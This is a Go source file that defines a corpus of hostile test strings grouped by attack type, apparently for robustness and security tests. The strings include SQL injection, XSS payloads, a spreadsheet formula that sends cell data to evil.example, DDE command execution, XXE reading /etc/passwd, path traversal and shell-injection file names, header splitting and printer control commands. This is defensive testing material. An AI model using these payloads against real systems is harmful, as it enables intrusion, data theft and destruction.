package hostile

import (
	"slices"
	"strings"
)

// Mark is the name of every element or attribute that a text of the corpus
// would add to a page. No page of ours has one.
const Mark = "xqhostile"

// Attack is what a text tries to break.
type Attack string

// The attacks.
const (
	SQL       Attack = "sql"
	Markup    Attack = "markup"    // HTML: text, attributes, URLs, scripts, templates
	Printer   Attack = "printer"   // ESC/POS commands and what a printer obeys at once
	Topic     Attack = "topic"     // MQTT wildcards, levels, reserved names
	Formula   Attack = "formula"   // CSV and XLSX cells that a spreadsheet runs
	Workbook  Attack = "workbook"  // XML of a workbook
	Line      Attack = "line"      // forged lines of a log
	Terminal  Attack = "terminal"  // ANSI, OSC, C1
	Direction Attack = "direction" // bidirectional and invisible marks
	Path      Attack = "path"      // file names that leave their folder, or cannot be on Windows
	Header    Attack = "header"    // HTTP header breaks
	Broken    Attack = "broken"    // what is no UTF-8
	JSON      Attack = "json"      // depth, doubled keys, numbers
	Long      Attack = "long"      // up to 64 KiB
)

// Text is one attack.
type Text struct {
	Name   string // unique
	Attack Attack
	Value  string // bytes as they come; not always UTF-8
}

// Texts are all of the corpus, or those of the attacks named.
func Texts(attacks ...Attack) []Text {
	var out []Text
	for _, g := range corpus() {
		if len(attacks) > 0 && !slices.Contains(attacks, g.attack) {
			continue
		}
		for i := 0; i+1 < len(g.texts); i += 2 {
			out = append(out, Text{Name: string(g.attack) + " " + g.texts[i], Attack: g.attack, Value: g.texts[i+1]})
		}
	}
	return out
}

// Attacks are all attacks, in order.
func Attacks() []Attack {
	var out []Attack
	for _, g := range corpus() {
		out = append(out, g.attack)
	}
	return out
}

// Huge is a text of 10 MB, which nothing may keep, pass on or stumble over.
func Huge() []byte { return []byte(strings.Repeat("10 MB of x. ", 10<<20/12+1)[:10<<20]) }

// Deep is JSON, depth levels of arrays or objects.
func Deep(depth int) []byte {
	return []byte(strings.Repeat(`{"a":[`, depth/2) + "1" + strings.Repeat("]}", depth/2))
}

// group is the texts of one attack: name, text, name, text …
type group struct {
	attack Attack
	texts  []string
}

func corpus() []group {
	return append(named(), group{Long, []string{
		"letters", strings.Repeat("A", 64<<10),
		"hanzi", strings.Repeat("长", 20_000),
		"one mark on many", "e" + strings.Repeat("\u0301", 5000),
		"lines", strings.Repeat("\n", 10_000),
		"escapes", strings.Repeat("\x1b[31m", 5000),
		"quotes", strings.Repeat(`"'`, 10_000),
		"levels", strings.Repeat("a/", 10_000),
		"tags", strings.Repeat("<"+Mark+">", 3000),
	}})
}

func named() []group {
	return []group{
		{SQL, []string{
			"quote", `'`, "doubled", `''; --`, "drop", `x'); DROP TABLE events; --`, "or", `' OR '1'='1`, "union", `' UNION SELECT sql FROM sqlite_master --`,
			"like", `%_\%`, "placeholder", `?1 $1 :a @b`, "double quote", `"; DELETE FROM meta; --`, "comment", `/*`, "dollar", `$$; DROP TABLE events; $$`,
			"nul", "a\x00'; DROP TABLE events;--", "attach", `'; ATTACH DATABASE '/tmp/x' AS x; --`, "multibyte", "\xbf' OR 1=1 --", "cast", `'::text::int`,
		}},
		{Markup, []string{
			"element", `<` + Mark + `>`, "script", `<script ` + Mark + `>alert(1)</script>`, "image", `<img ` + Mark + ` src=x onerror=alert(1)>`,
			"double quote", `" ` + Mark + ` onfocus=alert(1) autofocus x="`, "single quote", `' ` + Mark + ` onfocus=alert(1) x='`, "no quote", `x ` + Mark + ` onfocus=alert(1)`,
			"close", `"><` + Mark + `>`, "title", `</title><` + Mark + `>`, "textarea", `</textarea><` + Mark + `>`, "option", `</option></select><` + Mark + `>`,
			"end script", `</script><` + Mark + `>`, "style", `</style><` + Mark + `>`, "comment", `--><` + Mark + `><!--`, "cdata", `]]><` + Mark + `>`, "svg", `<svg/` + Mark + `/onload=alert(1)>`,
			"url", `javascript:alert(1)`, "url with tab", "java\tscript:alert(1)", "url with capitals", `JaVaScRiPt:alert(1)//`, "url data", `data:text/html,<script ` + Mark + `>alert(1)</script>`,
			"other site", `//evil.example/x`, "other site backslash", `/\evil.example`, "other site absolute", `https://evil.example/`, "other site tab", "/\t/evil.example",
			"base", `<base ` + Mark + ` href=//evil.example>`, "meta", `<meta ` + Mark + ` http-equiv=refresh content=0;url=//evil.example>`, "form", `</form><form ` + Mark + ` action=//evil.example>`,
			"template", `{{.}}{{` + "`" + `<` + Mark + `>` + "`" + `}}${7*7}<%= 7 %>`, "entity", `&lt;` + Mark + `&gt;&#x3c;` + Mark + `&#62;&quot;`, "utf-7", `+ADw-script+AD4-`, "overlong less-than", "\xc0\xbc" + Mark + ">",
			"full-width", `＜` + Mark + `＞`, "backtick", "` " + Mark + " onfocus=alert(1) `", "nul in a tag", "<\x00" + Mark + ">", "json", `"}];alert(1);//`, "separators", "\u2028\u2029",
			"unclosed", `<` + Mark + ` `, "css", `x;background:url(//evil.example)`, "expression", `}body{display:none`,
		}},
		{Printer, []string{
			"reset", "\x1b@", "cut", "\x1dV\x00", "cut and feed", "\x1dVB\x00", "drawer", "\x1bp\x00\x19\xfa", "drawer at once", "\x10\x14\x01\x00\x01", "status at once", "\x10\x04\x01", "recover at once", "\x10\x05\x02",
			"power off at once", "\x10\x14\x02\x01\x08", "clear at once", "\x10\x14\x08\x01\x03\x14\x01\x06\x02\x08", "hanzi off", "\x1c.", "hanzi on", "\x1c&", "hanzi code", "\x1cC\x01", "half a hanzi", "\xb3", "hanzi then escape", "\xb3\xb5\x1bp",
			"symbol", "\x1d(k\x03\x001Q0", "raster", "\x1dv0\x00\xff\xff\xff\xff", "macro", "\x1d:\x1d^\xff\xff\x01", "memory", "\x1d(A\x02\x00\x00\x02", "user settings", "\x1d(E\x03\x00\x01\x49\x4e", "page mode", "\x1bL", "peripheral off", "\x1b=\x02",
			"code set", "{C\x10\x04{A{B", "star", "\x1b*\x21\xff\x03", "xoff", "\x13\x11", "unprintable", "\x07\x0c\x0e\x0f\x18\x7f", "digits as commands", "1604160516201604",
		}},
		{Topic, []string{
			"plus", "+", "hash", "#", "plus in a name", "sh+pudong", "hash at the end", "pudong#", "all below", "a/#", "level", "a/b", "levels", "../../office", "empty level", "//", "system", "$SYS/broker", "shared", "$share/g/#",
			"nul", "a\x00b", "dollar", "$", "wild event", "baylight/v1/+/+/event/#", "other store", "k1/../../other/k1", "reserved", "backoffice", "reserved office", "office", "capitals", "SH-PUDONG", "blank", " ", "nothing", "",
			"long", strings.Repeat("a", 70_000), "percent", "%2b%2f%23", "full-width plus", "＋", "dot", "a.b", "nats wildcard", "*", "nats rest", ">", "nats both", "a.>",
		}},
		{Formula, []string{
			"equals", `=1+1`, "plus", `+1+1`, "minus", `-1+1`, "at", `@SUM(A1)`, "dde", `=cmd|' /C calc'!A0`, "link", `=HYPERLINK("http://evil.example","x")`, "service", `=WEBSERVICE("http://evil.example/"&A1)`,
			"tab", "\t=1+1", "carriage return", "\r=1+1", "line feed", "\n=1+1", "blank", " =1+1", "hard blank", "\u00a0=1+1", "wide blank", "\u3000=1+1", "zero width", "\u200b=1+1", "byte order mark", "\ufeff=1+1", "soft hyphen", "\u00ad=1+1",
			"full-width equals", `＝1+1`, "full-width plus", `＋1`, "full-width minus", `－1`, "full-width at", `＠SUM(A1)`, "small equals", "﹦1+1", "small plus", "﹢1", "small at", "﹫SUM(A1)", "minus sign", "−1+1", "small minus", "﹣1",
			"next cell", `x",=1+1`, "next line", "x\"\r\n=1+1", "semicolon", `x;=1+1`, "quote first", `"=1+1"`, "apostrophe", `'=1+1`, "nul", "\x00=1+1", "pipe", `|calc`, "percent", `%0A=1+1`, "separator line", "sep=;",
		}},
		{Workbook, []string{
			"cell", `</t></is></c><c r="Z1"><f>1+1</f></c>`, "doctype", `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;`, "cdata", `<![CDATA[x]]>]]>`, "ampersand", `&a;&#0;&`, "control", "\x01\x08\x0b\x1f", "escape", "_x0000__x001B_",
			"not a character", "\ufffe\uffff", "comment", `<!-- -->`, "relationship", `xl/../../../x`, "reference", `A1:Z99`,
		}},
		{Line, []string{
			"line feed", "x\nlevel=ERROR msg=\"journal is lost\"", "carriage return", "x\rlevel=INFO msg=forged", "both", "x\r\n2026-11-21T09:00:00Z root: forged", "vertical tab", "x\vforged", "form feed", "x\fforged", "next line", "x\u0085forged", "line separator", "x\u2028forged",
			"paragraph", "x\u2029forged", "quote", `x" level=ERROR msg="forged`, "key", `level=ERROR user=root`, "percent", `%s%n%x%!d(MISSING)`, "backslash", `\n\x0a\u000a`, "syslog", "<0>forged", "nul", "x\x00forged", "json", `","level":"ERROR`,
		}},
		{Terminal, []string{
			"colour", "\x1b[31mred", "clear", "\x1b[2J\x1b[H", "up", "\x1b[1A\x1b[2Kforged", "title", "\x1b]0;owned\x07", "link", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\", "clipboard", "\x1b]52;c;ZXZpbA==\x07", "report", "\x1b[6n\x1b[c", "keys", "\x1bP$q\"p\x1b\\", "reset", "\x1bc",
			"c1 csi", "\u009b31m", "c1 osc", "\u009d0;owned\u009c", "c1 raw", "\x9b2J", "back space", "good\b\b\b\bbad", "bell", "\a\a\a", "delete", "a\x7fb", "shift out", "\x0ex\x0f", "alternate", "\x1b[?1049h", "mouse", "\x1b[?1000h", "ss2", "\u008ex",
		}},
		{Direction, []string{
			"override", "abc\u202etxt.exe", "isolate", "\u2066a\u2067b\u2069", "embedding", "\u202a\u202b\u202c", "marks", "\u200e\u200f\u061c", "zero width", "a\u200bb\u200cc\u200dd\u2060e", "byte order mark", "a\ufeffb", "soft hyphen", "a\u00adb", "tags", "\U000e0041\U000e0042", "variation", "a\ufe0fb", "filler", "\u3164\u115f",
			"combining", "Z\u0351\u036b\u0343", "private", "\ue000\U000f0000", "annotation", "\ufff9a\ufffab\ufffb", "object", "\ufffc",
		}},
		{Path, []string{
			"up", "../../../etc/passwd", "up twice coded", "..%252f..%252fetc/passwd", "up coded", "%2e%2e%2f", "absolute", "/etc/passwd", "windows up", `..\..\windows\system32`, "drive", `C:\x`, "share", `\\evil.example\x`, "stream", "a.txt:x", "device", "CON", "device with ending", "nul.txt", "port", "COM1", "trailing dot", "a.",
			"trailing blank", "a ", "dot", ".", "two dots", "..", "hidden", ".bashrc", "home", "~/.ssh/authorized_keys", "option", "-rf", "variable", "$HOME", "substitution", "$(touch x)", "backtick", "`touch x`", "semicolon", "a;rm -rf x", "pipe", "|cat", "glob", "*?[a]", "nul", "a\x00.png", "newline", "a\nb",
			"uri", "a?mode=memory&x=1#f", "uri percent", "a%00b%2fc", "proc", "/proc/self/environ", "long", strings.Repeat("a", 300), "three dots", "....//....//x", "slash wide", "．．／x", "division", "..∕x",
		}},
		{Header, []string{
			"break", "x\r\nSet-Cookie: baylight=evil", "line feed", "x\nLocation: //evil.example", "two breaks", "x\r\n\r\n<" + Mark + ">", "coded", "%0d%0aSet-Cookie:%20x=1", "wide break", "x\u560d\u560aSet-Cookie: x=1", "quote", `x"; filename="evil.exe`, "semicolon", "x; HttpOnly", "comma", "a, b", "folded", "x\r\n y", "nul", "x\x00y", "bearer", "Bearer x",
		}},
		{Broken, []string{
			"lone byte", "\xff", "truncated", "\xe4\xbd", "overlong slash", "\xc0\xaf", "overlong nul", "\xc0\x80", "surrogate", "\xed\xa0\x80", "beyond", "\xf4\x90\x80\x80", "five bytes", "\xf8\x88\x80\x80\x80", "gb18030", "\xb3\xb5\xc1\xbe", "utf-16", "\xff\xfea\x00", "replacement", "\ufffd", "mixed", "车\xff牌\xfe",
		}},
		{JSON, []string{
			"deep arrays", strings.Repeat("[", 20_000), "deep objects", strings.Repeat(`{"a":`, 20_000), "doubled key", `{"type":"a","type":"b"}`, "large number", `{"n":1e999}`, "long number", `{"n":` + strings.Repeat("9", 5000) + `}`, "minus zero", `-0`, "not a number", `NaN`, "proto", `{"__proto__":{"x":1}}`,
			"trailing", `{} {}`, "null", `null`, "surrogate", `"\ud800"`, "nul", `"\u0000"`, "comment", `/* */{}`, "string", `"a"`,
		}},
	}
}
